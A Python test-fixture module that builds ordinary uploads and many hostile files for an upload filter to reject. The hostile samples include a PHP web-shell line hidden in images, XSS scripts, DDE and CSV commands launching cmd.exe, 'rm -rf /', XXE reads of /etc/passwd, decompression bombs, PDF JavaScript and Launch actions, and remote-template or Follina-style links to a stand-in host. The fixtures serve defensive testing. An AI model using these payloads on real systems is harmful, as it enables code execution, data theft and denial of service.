"""Small files as people hand them in, and hostile ones as they should not be: name → content."""

from __future__ import annotations

import io
import warnings
import zipfile
import zlib
from collections.abc import Mapping

import pikepdf
from PIL import Image

OPEN_XML = "http://schemas.openxmlformats.org"
RELATIONS = f"{OPEN_XML}/officeDocument/2006/relationships"
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
WORD = (
    b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>Zo ging het.</w:t></w:r></w:p></w:body></w:document>"
)
SHEET = b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
ODT = b"application/vnd.oasis.opendocument.text"


def types(main: str, part: str, more: str = "") -> bytes:
    return (
        f'<?xml version="1.0"?><Types xmlns="{OPEN_XML}/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/><Override PartName="{part}" ContentType="{main}"/>'
        f"{more}</Types>"
    ).encode()


TYPES = types(WORD_MAIN, "/word/document.xml")
SHEET_TYPES = types(SHEET_MAIN, "/xl/workbook.xml")


def relation(kind: str, target: str, mode: str = "External") -> bytes:
    return (
        f'<Relationships xmlns="{OPEN_XML}/package/2006/relationships"><Relationship Id="r" TargetMode="{mode}" '
        f'Type="{RELATIONS}/{kind}" Target="{target}"/></Relationships>'
    ).encode()


def written(inside: str) -> bytes:
    """The content of a text of LibreOffice."""
    spaces = " ".join(
        f'xmlns:{each}="urn:oasis:names:tc:opendocument:xmlns:{each}:1.0"' for each in ("office", "text", "draw")
    )
    return (
        f'<?xml version="1.0"?><office:document-content {spaces} xmlns:xlink="http://www.w3.org/1999/xlink">{inside}'
        "</office:document-content>"
    ).encode()


CONTENT = written("<office:body><office:text><text:p>Zo ging het.</text:p></office:text></office:body>")


def pdf(change: object = None) -> bytes:
    """A PDF of one page; `change` may do something to it before it is written."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(595, 842))
    if callable(change):
        change(document)
    out = io.BytesIO()
    as_it_is = pikepdf.StreamDecodeLevel.none
    document.save(out, compress_streams=False, stream_decode_level=as_it_is, deterministic_id=True)
    return out.getvalue()


def picture(form: str, size: tuple[int, int] = (40, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "#6b3a78").save(out, form)
    return out.getvalue()


def jpg() -> bytes:
    return picture("JPEG")


def png() -> bytes:
    return picture("PNG")


def packed(parts: Mapping[str, bytes], *, level: int = 6) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def swollen(megabytes: int) -> bytes:
    """So many millions of nothing, as small as zlib makes them, without the wait of making them."""
    packer = zlib.compressobj(9)
    head = packer.compress(b"\x00" * 1_000_000) + packer.flush(zlib.Z_FULL_FLUSH)
    once = packer.compress(b"\x00" * 1_000_000) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + once * (megabytes - 1) + packer.flush()


def docx(more: Mapping[str, bytes] | None = None) -> bytes:
    return packed({"[Content_Types].xml": TYPES, "word/document.xml": WORD, **(more or {})})


def xlsx(more: Mapping[str, bytes] | None = None) -> bytes:
    return packed({"[Content_Types].xml": SHEET_TYPES, "xl/workbook.xml": SHEET, **(more or {})})


def odt(more: Mapping[str, bytes] | None = None) -> bytes:
    return packed({"mimetype": ODT, "content.xml": CONTENT, **(more or {})})


def txt() -> bytes:
    return "Zo ging het, één voor één. Ik zei: 2 < 3.\r\n".encode()


def good() -> dict[str, bytes]:
    local = relation("attachedTemplate", "file:///C:/Users/jan/Templates/Brief.dotx")
    link = relation("hyperlink", "https://www.klachten.example/")
    printer = {"xl/printerSettings/printerSettings1.bin": b"\x00P\x00r"}
    motion = b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 64  # the film that a phone keeps behind a photo
    return {
        "brief.pdf": pdf(),
        "foto.jpg": jpg(),
        "foto.JPEG": jpg(),
        "bewegende foto.jpg": jpg() + motion,
        "schermafdruk.png": png(),
        "plaatje.webp": picture("WEBP"),
        "verslag.docx": docx({"word/media/foto.png": png()}),
        "overzicht.xlsx": xlsx(),
        "brief met eigen sjabloon.docx": docx({"word/_rels/settings.xml.rels": local}),
        "brief met link.docx": docx({"word/_rels/document.xml.rels": link}),
        "grafiek.docx": docx({"word/embeddings/Microsoft_Excel_Sheet1.xlsx": xlsx(printer)}),
        "afgedrukt.xlsx": xlsx(printer),
        "met link.odt": odt({"content.xml": written('<text:a xlink:href="https://www.klachten.example/"/>')}),
        "met link.pdf": pdf(_linked),
        "brief.odt": odt({"Thumbnails/thumbnail.png": png()}),
        "aantekening.txt": "Zo ging het, één voor één. Ik zei: 2 < 3.\r\n".encode(),
        "oude aantekening.txt": "Zo ging het, één voor één.".encode("cp1252"),
    }


def _linked(document: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://www.klachten.example/")
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
    document.pages[0].Annots = pikepdf.Array([document.make_indirect(note)])
    document.Root.OpenAction = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])


def hostile() -> dict[str, bytes]:
    """Every one of these must be refused, whatever its name or its first bytes say."""
    html = b"<!DOCTYPE html><script>alert(1)</script>"
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    return {
        **_by_name(html, svg),
        **_pictures(html),
        **_documents(html),
        **_archives(),
        **_texts(html, svg),
        **_hidden(),
    }


def _by_name(html: bytes, svg: bytes) -> dict[str, bytes]:
    return {
        "pagina.html": html,
        "plaatje.svg": svg,
        "plaatje.gif": b"GIF89a" + b"\x00" * 20,
        "programma.exe": b"MZ" + b"\x00" * 60,
        "macro.docm": docx(),
        "archief.zip": packed({"a.txt": b"a"}),
        "zonder": b"tekst",
        ".pdf": pdf(),
        "rekening.pdf.exe": pdf(),
        "rekening.pdf ": b"MZ",
        "tekst.txt\x00.exe": b"MZ",
        "omgekeerd\u202efdp.exe": b"MZ",
        "foto.heic": b"\x00\x00\x00\x18ftypheic",
        "script.js": b"alert(1)",
        "blad.csv": b"=cmd|'/c calc'!A1",
        "leeg.pdf": b"",
        "leeg.txt": b"",
    }


def _pictures(html: bytes) -> dict[str, bytes]:
    flood = bytearray(png())
    flood[16:24] = (60_000).to_bytes(4, "big") * 2  # says that it is 60,000 by 60,000 pixels
    wide = bytearray(jpg())
    at = wide.find(b"\xff\xc0") + 5
    wide[at : at + 4] = (65_000).to_bytes(2, "big") * 2
    return {
        "pagina.jpg": html,
        "pagina.png": html,
        "gif.png": b"GIF89a" + b"\x00" * 20,
        "png.jpg": png(),
        "jpg.png": jpg(),
        "pdf.jpg": pdf(),
        "kop.jpg": b"\xff\xd8\xff\xe0" + b"\x00" * 100,
        "kop.png": b"\x89PNG\r\n\x1a\n" + b"\x00" * 100,
        "kop.webp": b"RIFF" + b"\x00" * 100,
        "avi.webp": b"RIFF\x24\x00\x00\x00AVI LIST",
        "halve.jpg": picture("JPEG", (400, 300))[:700],
        "halve.png": picture("PNG", (400, 300))[:200],
        "zip-erachter.jpg": jpg() + packed({"a.html": html}),
        "html-erachter.jpg": jpg() + html,
        "php-erachter.jpg": jpg() + b"<?php system($_GET[0]);",
        "pdf-erachter.jpg": jpg() + pdf(),
        "zip-erachter.png": png() + packed({"a.html": html}),
        "html-erachter.png": png() + html,
        "vloed.png": bytes(flood),
        "vloed.jpg": bytes(wide),
        "zip-erachter.webp": picture("WEBP") + packed({"a.html": html}),
        "bom.png": _png_bomb(),
    }


def _png_bomb() -> bytes:
    """Eight by eight thousand pixels of nothing: 64 million of them from 8 kB."""
    out = io.BytesIO()
    Image.new("1", (8_000, 8_000)).save(out, "PNG")
    return out.getvalue()


def _documents(html: bytes) -> dict[str, bytes]:
    def script(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")

    def launch(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")

    def named_script(document: pikepdf.Pdf) -> None:
        action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", action])))

    def attached(document: pikepdf.Pdf) -> None:
        document.attachments["virus.exe"] = b"MZ" + b"\x00" * 60

    def on_page(document: pikepdf.Pdf) -> None:
        document.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="x()"))

    def form(document: pikepdf.Pdf) -> None:
        document.Root.AcroForm = pikepdf.Dictionary(XFA=document.make_stream(b"<xdp/>"))

    def film(document: pikepdf.Pdf) -> None:
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 9, 9])
        document.pages[0].Annots = pikepdf.Array([document.make_indirect(note)])

    def bomb(document: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(document, swollen(60))
        stream.Filter = pikepdf.Name.FlateDecode
        document.pages[0].Contents = document.make_indirect(stream)

    def nested_bomb(document: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(document, zlib.compress(swollen(60), 9))
        stream.Filter = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
        document.pages[0].Contents = document.make_indirect(stream)

    def locked() -> bytes:
        out = io.BytesIO()
        document = pikepdf.new()
        document.add_blank_page()
        document.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
        return out.getvalue()

    def pages() -> bytes:
        return pdf(lambda document: [document.add_blank_page() for _ in range(2_100)])

    return {
        "pagina.pdf": html,
        "kop.pdf": b"%PDF-1.7",
        "kop en html.pdf": b"%PDF-1.7\n" + html,
        "halve.pdf": pdf()[: len(pdf()) // 2],
        "geen pagina.pdf": _no_page(),
        "script.pdf": pdf(script),
        "script bij naam.pdf": pdf(named_script),
        "script bij bladzijde.pdf": pdf(on_page),
        "start.pdf": pdf(launch),
        "bijlage.pdf": pdf(attached),
        "formulier.pdf": pdf(form),
        "film.pdf": pdf(film),
        "bom.pdf": pdf(bomb),
        "dubbele bom.pdf": pdf(nested_bomb),
        "op slot.pdf": locked(),
        "te veel.pdf": pages(),
        "zip-erachter.pdf": pdf() + packed({"a.html": html}),
        "html-erachter.pdf": pdf() + html,
        "elf.pdf": b"\x7fELF" + b"\x00" * 60,
        "html-ervoor.pdf": html + pdf(),
    }


def _no_page() -> bytes:
    out = io.BytesIO()
    pikepdf.new().save(out)
    return out.getvalue()


def _archives() -> dict[str, bytes]:
    entity = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    laughs = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;&x;&x;">]><a>&y;</a>'
    template = (
        b'<Relationships><Relationship Id="r" TargetMode="External" Target="http://kwaad.example/a.dotm" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
    )
    macros = (
        b'<Types><Override PartName="/a" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    )
    out = io.BytesIO()
    with warnings.catch_warnings(action="ignore"), zipfile.ZipFile(out, "w") as archive:
        for _ in range(2):
            archive.writestr("[Content_Types].xml", TYPES)
            archive.writestr("word/document.xml", WORD)
    return {
        "archief.docx": packed({"a.txt": b"a"}),
        "blad.docx": xlsx(),
        "brief.xlsx": docx(),
        "brief.odt": docx(),
        "kop.docx": b"PK\x03\x04" + b"\x00" * 100,
        "halve.docx": docx()[:200],
        "html-erachter.docx": docx() + b"<html><script>",
        "macro.docx": docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "macro.xlsx": xlsx({"xl/macrosheets/sheet1.xml": SHEET}),
        "macrosoort.docx": docx({"[Content_Types].xml": macros}),
        "activex.docx": docx({"word/activeX/activeX1.xml": WORD}),
        "ole.docx": docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
        "programma.docx": docx({"word/a.exe": b"MZ"}),
        "archief-in-archief.docx": docx({"word/a.zip": packed({"b": b"b"})}),
        "entiteit.docx": docx({"word/document.xml": entity}),
        "lachen.docx": docx({"word/document.xml": laughs}),
        "kapotte xml.docx": docx({"word/document.xml": b"<w:document><w:p>"}),
        "sjabloon.docx": docx({"word/_rels/settings.xml.rels": template}),
        "omhoog.docx": docx({"../../etc/passwd": b"x"}),
        "van boven.docx": docx({"/etc/passwd": b"x"}),
        "dubbel.docx": out.getvalue(),
        "bom.docx": docx({"word/media/a.png": b"\x00" * 30_000_000}),
        "zware bom.docx": docx({f"word/media/{number}.png": b"\x00" * 1_000_000 for number in range(110)}),
        "veel.docx": docx({f"word/{number}.xml": b"<a/>" for number in range(2_100)}),
        "script.odt": odt({"Scripts/python/a.py": b"x"}),
        "basic.odt": odt({"Basic/Standard/Module1.xml": b"<a/>"}),
        "ander soort.odt": odt({"mimetype": b"application/zip"}),
        "op slot.docx": _locked_archive(),
    }


def _locked_archive() -> bytes:
    """Says of each part that it needs a password."""
    data = bytearray(docx())
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def _texts(html: bytes, svg: bytes) -> dict[str, bytes]:
    return {
        "pagina.txt": html,
        "plaatje.txt": svg,
        "xml.txt": b'<?xml version="1.0"?><html/>',
        "pdf.txt": pdf(),
        "programma.txt": b"MZ\x90\x00" + b"\x00" * 60,
        "nul.txt": b"een\x00twee",
        "bellen.txt": b"\x07\x1b[2Jhallo",
        "utf16.txt": "hallo".encode("utf-16"),
        "shell.txt": b"#!/bin/sh\nrm -rf /\n",
        "postscript.txt": b"%!PS-Adobe\n",
        "binair.txt": bytes(range(256)),
        "opmerking.txt": b"<!-- a --><html><script>alert(1)</script>",
        "lege regels.txt": b"\n" * 9_000 + html,
        "met bom.txt": b"\xef\xbb\xbf" + html,
        "kop.txt": b"<h1 onclick=alert(1)>a</h1>",
        "utf16 zonder bom.txt": "<html>".encode("utf-16-le"),
        "opmaak.txt": b"{\\rtf1\\ansi}",
        "esc in utf-8.txt": "a\u009b2J".encode(),
        "png.txt": png(),
        "word.txt": docx(),
        "elf.txt": b"\x7fELF\x02\x01\x01" + b"\x00" * 60,
    }


def _hidden() -> dict[str, bytes]:
    """Hostile files that look whole: what they do lies under another name, deeper, or beside what is read."""
    return {**_hidden_in_pdf(), **_hidden_in_office(), **_hidden_in_odt(), **_hidden_in_pictures(), **_odd_archives()}


def _hidden_in_pdf() -> dict[str, bytes]:
    name, entry = pikepdf.Name, pikepdf.Dictionary

    def deep(document: pikepdf.Pdf) -> None:
        action = entry(S=name.GoTo, D=pikepdf.Array([0]), Next=entry(S=name.GoTo, Next=entry(S=name.Launch)))
        document.Root.Outlines = entry(First=document.make_indirect(entry(Title="a", A=action)))

    def fetched(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = entry(S=name.URI, URI="https://kwaad.example/")

    def remote(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = entry(S=name.GoToR, F="\\\\kwaad.example\\deel\\a.pdf", D=pikepdf.Array([0]))

    def submitted(document: pikepdf.Pdf) -> None:
        note = entry(Type=name.Annot, Subtype=name.Link, Rect=[0, 0, 9, 9], A=entry(S=name.SubmitForm, F="http://k/"))
        document.pages[0].Annots = pikepdf.Array([document.make_indirect(note)])

    def elsewhere(document: pikepdf.Pdf) -> None:
        document.pages[0].Contents = document.make_stream(b"", F="/etc/passwd")

    def flood(document: pikepdf.Pdf) -> None:
        picture = document.make_stream(b"\x00", Subtype=name.Image, Width=100_000, Height=100_000, BitsPerComponent=8)
        document.pages[0].Resources = entry(XObject=entry(I=picture))

    def many_streams(document: pikepdf.Pdf) -> None:
        packed_once = swollen(18)
        streams = [pikepdf.Stream(document, packed_once) for _ in range(40)]
        for each in streams:
            each.Filter = name.FlateDecode
        document.pages[0].Contents = pikepdf.Array([document.make_indirect(each) for each in streams])

    def in_letters(document: pikepdf.Pdf) -> None:
        letters = swollen(400).hex().encode() + b">"
        stream = pikepdf.Stream(document, letters)
        stream.Filter = pikepdf.Array([name.ASCIIHexDecode, name.FlateDecode])
        document.pages[0].Contents = document.make_indirect(stream)

    def nested(document: pikepdf.Pdf) -> None:
        inner = pikepdf.Array([])
        for _ in range(200):
            inner = pikepdf.Array([inner])
        document.Root.Pit = inner

    def packed_script(document: pikepdf.Pdf) -> None:
        document.Root.Extra = document.make_indirect(entry(S=name.JavaScript, JS="app.alert(1)"))

    compact = io.BytesIO()
    document = pikepdf.new()
    document.add_blank_page()
    packed_script(document)
    document.save(compact, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    start = pdf(
        lambda document: document.Root.__setitem__("/OpenAction", pikepdf.Dictionary(S=name.JavaScript, JS="a"))
    )
    escaped = start.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4aS")
    plain = pdf()
    return {
        "dieper script.pdf": pdf(deep),
        "haalt op.pdf": pdf(fetched),
        "ander bestand op netwerk.pdf": pdf(remote),
        "verstuurt.pdf": pdf(submitted),
        "inhoud elders.pdf": pdf(elsewhere),
        "vloed.pdf": pdf(flood),
        "veel bommen.pdf": pdf(many_streams),
        "bom in letters.pdf": pdf(in_letters),
        "diepe kuil.pdf": pdf(nested),
        "script in pakket.pdf": compact.getvalue(),
        "script anders gespeld.pdf": escaped,
        "bom als lijst.pdf": _object_stream_bomb(),
        "script in oudere versie.pdf": plain.replace(
            b"%\xbf\xf7\xa2\xfe\n", b"%\xbf\xf7\xa2\xfe\n9 0 obj\n<</S/JavaScript/JS(a)>>\nendobj\n"
        ),
        "html-erin.pdf": plain[:9] + b"%<html><script>alert(1)</script>\n" + plain[9:],
        "programma-erachter.pdf": plain + b"MZ\x90\x00" + b"\x00" * 200,
        "zip-ervoor.pdf": packed({"a.html": b"a"}) + plain,
    }


def _object_stream_bomb() -> bytes:
    """The list of what stands where, 300 MB of it packed in 300 kB: a library unpacks it before it can be asked."""
    bomb = swollen(300)
    head = (
        b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
    )
    table = b"3 0 obj\n<</Type/XRef/Size 4/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>\nstream\n" % len(bomb)
    return head + table + bomb + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(head)


def _hidden_in_office() -> dict[str, bytes]:
    def field(*pieces: str) -> bytes:
        runs = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in pieces)
        return WORD.replace(b"<w:p>", f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'.encode())

    macros = '<Override PartName="/word/foto.xml" ContentType="application/vnd.ms-office.vbaProject"/>'
    other = f'<Override PartName="/xl/workbook.xml" ContentType="{SHEET_MAIN}"/>'
    million = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "ha">' + b"".join(
        b'<!ENTITY a%d "%s">' % (number, b"&a%d;" % (number - 1) * 10) for number in range(1, 10)
    )
    links = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" '
        b'ddeTopic="/c calc"/></externalLink>'
    )
    dotm = relation("attachedTemplate", "\\\\kwaad.example\\deel\\a.dotm")
    return {
        "wachtwoord.docx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 99 + "EncryptedPackage".encode("utf-16-le"),
        "oude word.docx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
        "macro zonder naam.docx": docx({"[Content_Types].xml": types(WORD_MAIN, "/word/document.xml", macros)}),
        "macro bij verwijzing.docx": docx(
            {"word/_rels/document.xml.rels": relation("vbaProject", "a.xml", "Internal")}
        ),
        "sjabloon op netwerk.docx": docx({"word/_rels/settings.xml.rels": dotm}),
        "SJABLOON.docx": docx({"word/_rels/SETTINGS.XML.RELS": relation("attachedTemplate", "http://k.example/a")}),
        "sjabloon via file.docx": docx({"word/_rels/a.rels": relation("attachedTemplate", "file://kwaad.example/a")}),
        "follina.docx": docx({"word/_rels/document.xml.rels": relation("oleObject", "https://kwaad.example/a.html!")}),
        "plaatje elders.docx": docx({"word/_rels/document.xml.rels": relation("image", "https://kwaad.example/a.png")}),
        "link met script.docx": docx(
            {"word/_rels/document.xml.rels": relation("hyperlink", "ms-msdt:/id PCWDiagnostic")}
        ),
        "html als deel.docx": docx({"word/afchunk.html": b"<script>alert(1)</script>"}),
        "deel van elders.docx": docx({"word/_rels/document.xml.rels": relation("aFChunk", "a.xml", "Internal")}),
        "dde.docx": docx({"word/document.xml": field('DDEAUTO c:\\\\cmd.exe "/k calc"')}),
        "dde in stukken.docx": docx({"word/document.xml": field("DD", "EAU", 'TO c:\\\\cmd.exe "/k calc"')}),
        "dde.xlsx": xlsx({"xl/externalLinks/externalLink1.xml": links}),
        "macroblad.xlsx": xlsx({"xl/macrosheets/sheet1.xml": SHEET}),
        "oud blad.xlsx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
        "macroblad als blad.xlsx": xlsx(
            {
                "[Content_Types].xml": types(
                    SHEET_MAIN,
                    "/xl/workbook.xml",
                    '<Override PartName="/xl/a.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
                )
            }
        ),
        "miljard lachen.docx": docx({"word/document.xml": million + b"]><a>&a9;</a>"}),
        "entiteit in utf-16.docx": docx(
            {
                "word/document.xml": '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a [<!ENTITY x "y">]><a/>'.encode(
                    "utf-16"
                )
            }
        ),
        "entiteit in verwijzing.docx": docx(
            {"word/_rels/a.rels": b'<!DOCTYPE a SYSTEM "http://kwaad.example/a.dtd"><a/>'}
        ),
        "diep.docx": docx({"word/document.xml": b"<a>" * 3_000_000}),
        "twee in een.docx": docx(
            {"[Content_Types].xml": types(WORD_MAIN, "/word/document.xml", other), "xl/workbook.xml": SHEET}
        ),
        "nergens.docx": docx({"[Content_Types].xml": types(WORD_MAIN, "/word/elders.xml")}),
        "vermomd.docx": docx({"[Content_Types].xml": types(WORD_MAIN, "/word/foto.png"), "word/foto.png": WORD}),
        "sjabloonsoort.docx": docx(
            {"[Content_Types].xml": types(WORD_MAIN.replace("document.main", "template.main"), "/word/document.xml")}
        ),
        "programma als foto.docx": docx({"word/media/image1.png": b"MZ\x90\x00" + b"\x00" * 60}),
        "zip als foto.docx": docx({"word/media/image1.png": packed({"a.exe": b"MZ"})}),
        "script in tekening.docx": docx({"word/media/image1.svg": b"<svg><script>alert(1)</script></svg>"}),
        "macro in bijlage.docx": docx({"word/embeddings/blad.xlsx": xlsx({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})}),
        "diep genest.docx": docx({"word/embeddings/a.docx": docx({"word/embeddings/b.docx": docx()})}),
        "bom in bijlage.docx": docx({"word/embeddings/a.xlsx": xlsx({"xl/media/a.png": b"\x00" * 30_000_000})}),
        "invoegtoepassing.docx": docx({"word/webextensions/webextension1.xml": b"<a/>"}),
        "lint.docx": docx({"customUI/customUI14.xml": b"<a/>"}),
        "verversen.xlsx": xlsx({"xl/connections.xml": b'<connections><connection refreshOnLoad="1"/></connections>'}),
    }


def _hidden_in_odt() -> dict[str, bytes]:
    strange = 'xmlns:q="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
    locked_manifest = (
        b'<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        b'<m:file-entry m:full-path="content.xml"><m:encryption-data/></m:file-entry></m:manifest>'
    )
    return {
        "gebeurtenis.odt": odt(
            {"content.xml": written(f'<a {strange}><q:event-listener q:event-name="dom:load"/></a>')}
        ),
        "macrolink.odt": odt(
            {"content.xml": written('<text:a xlink:href="vnd.sun.star.script:a.py$b?language=Python"/>')}
        ),
        "plaatje elders.odt": odt({"content.xml": written('<draw:image xlink:href="https://kwaad.example/a.png"/>')}),
        "plaatje op netwerk.odt": odt(
            {"content.xml": written('<draw:image xlink:href="file://kwaad.example/a.png"/>')}
        ),
        "dde.odt": odt({"content.xml": written('<office:dde-source office:dde-application="cmd"/>')}),
        "applet.odt": odt({"content.xml": written('<draw:applet xlink:href="a.class"/>')}),
        "wachtwoord.odt": odt({"content.xml": b"\x01\x02\x03", "META-INF/manifest.xml": locked_manifest}),
        "jar.odt": odt({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"}),
        "ole.odt": odt({"Object 1": b"\xd0\xcf\x11\xe0"}),
        "entiteit.odt": odt({"content.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}),
        "leeg.odt": odt({"content.xml": b""}),
        "sjabloon.odt": odt({"mimetype": ODT + b"-template"}),
        "ook word.odt": odt({"[Content_Types].xml": TYPES, "word/document.xml": WORD}),
    }


def _hidden_in_pictures() -> dict[str, bytes]:
    def chunk(name: bytes, content: bytes) -> bytes:
        return len(content).to_bytes(4, "big") + name + content + zlib.crc32(name + content).to_bytes(4, "big")

    def said(content: bytes) -> bytes:
        return b"\xff\xd8\xff\xfe" + (len(content) + 2).to_bytes(2, "big") + content + jpg()[2:]

    archive = packed({"a.html": b"<script>"})
    body, end = png()[:-12], png()[-12:]
    riff = bytearray(picture("WEBP") + b"ZZZZ" + len(archive).to_bytes(4, "little") + archive)
    riff[4:8] = (len(riff) - 8).to_bytes(4, "little")
    return {
        "php-erin.jpg": said(b"<?php system($_GET[0]); ?>"),
        "html-erin.jpg": said(b"<html><script>alert(1)</script>"),
        "zip-erin.jpg": said(archive),
        "programma-erachter.jpg": jpg() + b"MZ\x90\x00" + b"\x00" * 90,
        "zip-erin.png": body + chunk(b"tEXt", b"a\x00" + archive) + end,
        "php-erin.png": body + chunk(b"tEXt", b"a\x00<?php system($_GET[0]);") + end,
        "tekstbom.png": png()[:33] + chunk(b"zTXt", b"a\x00\x00" + zlib.compress(b"a" * 50_000_000, 9)) + png()[33:],
        "zonder einde.png": body,
        "zonder einde.jpg": jpg()[:-2],
        "zip-erin.webp": bytes(riff),
        "duizend stukjes.jpg": jpg()[:2] + b"\xff\xfe\x00\x02" * 100_000 + jpg()[2:],
        "duizend stukjes.png": png()[:33] + chunk(b"aaAa", b"") * 100_000 + png()[33:],
        "svg.png": b'<svg xmlns="http://www.w3.org/2000/svg"/>',
        "bmp.jpg": picture("BMP"),
        "tiff.jpg": picture("TIFF"),
        "webp.jpg": picture("WEBP"),
        "ico.png": picture("ICO"),
        "elf.png": b"\x7fELF" + b"\x00" * 90,
    }


def _odd_archives() -> dict[str, bytes]:
    whole, start = docx(), docx().find(b"PK\x01\x02")
    place = int.from_bytes(whole[-6:-2], "little")
    gap = bytearray(whole[:start] + b"<script>" * 40 + whole[start:])
    gap[-6:-2] = (place + 320).to_bytes(4, "little")
    note = bytearray(whole + b"<html><script>")
    note[len(whole) - 2 : len(whole)] = (14).to_bytes(2, "little")
    lying = bytearray(docx({"word/media/a.png": b"\x00" * 30_000_000}))
    at = lying.find(b"word/media/a.png", lying.find(b"PK\x01\x02")) - 46
    lying[at + 24 : at + 28] = (10).to_bytes(4, "little")  # says that it holds ten bytes
    overlapping = bytearray(whole)
    first, second = start, whole.find(b"PK\x01\x02", start + 4)
    overlapping[second + 42 : second + 46] = overlapping[first + 42 : first + 46]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        for name, content in (("[Content_Types].xml", TYPES), ("word/document.xml", WORD), (link, b"/etc/passwd")):
            archive.writestr(name, content)
    squeezed = io.BytesIO()
    with zipfile.ZipFile(squeezed, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("word/document.xml", WORD)
    return {
        "gat.docx": bytes(gap),
        "opmerking.docx": bytes(note),
        "liegt.docx": bytes(lying),
        "over elkaar.docx": bytes(overlapping),
        "verwijzing.docx": out.getvalue(),
        "anders ingepakt.docx": squeezed.getvalue(),
        "zip-ervoor.docx": packed({"a.txt": b"a"}) + docx(),
        "HOOFDLETTERS.docx": docx({"WORD/document.xml": WORD}),
        "schijf.docx": docx({"C:/Windows/a.xml": b"<a/>"}),
        "andersom.docx": docx({"..\\..\\a.xml": b"<a/>"}),
        "nul in naam.docx": docx().replace(b"word/document.xml", b"word/docum\x00nt.xml"),
        "duizenden.docx": docx({f"word/{number}.xml": b"<a/>" for number in range(12_000)}),
        "programma.bin.xlsx": xlsx({"xl/printerSettings/a.bin": b"MZ"}),
    }
